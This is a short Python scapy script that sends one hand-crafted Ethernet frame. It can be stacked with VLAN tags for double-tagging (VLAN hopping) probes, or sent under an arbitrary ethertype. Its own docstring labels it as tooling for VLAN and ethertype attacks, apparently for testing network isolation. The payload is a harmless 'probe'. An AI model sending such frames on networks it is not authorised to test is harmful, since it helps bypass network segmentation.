#!/usr/bin/python3
"""Sends one hand-made Ethernet frame out of IFACE, for the VLAN and ethertype attacks.

usage: l2_send.py IFACE DST_MAC KIND [ARGS]
  tagged TPID:VID[,...] SRC_IP DST_IP PORT   UDP "probe" under the tags, outer first ("": none)
  ethertype TYPE                             46 bytes of payload under ethertype TYPE
"""
import sys

from scapy.all import IP, UDP, Dot1AD, Dot1Q, Ether, Raw, conf, get_if_hwaddr, sendp

conf.verb = 0
iface, dst_mac, kind = sys.argv[1:4]
frame = Ether(src=get_if_hwaddr(iface), dst=dst_mac)
if kind == "tagged":
    tags, src_ip, dst_ip, port = sys.argv[4:8]
    for tag in filter(None, tags.split(",")):
        tpid, vid = tag.split(":")
        frame = frame / (Dot1AD(vlan=int(vid)) if tpid == "88a8" else Dot1Q(vlan=int(vid)))
    frame = frame / IP(src=src_ip, dst=dst_ip) / UDP(sport=40000, dport=int(port)) / Raw(b"probe")
elif kind == "ethertype":
    frame.type = int(sys.argv[4], 16)
    frame = frame / Raw(b"\xcb" * 46)
sendp(frame, iface=iface)
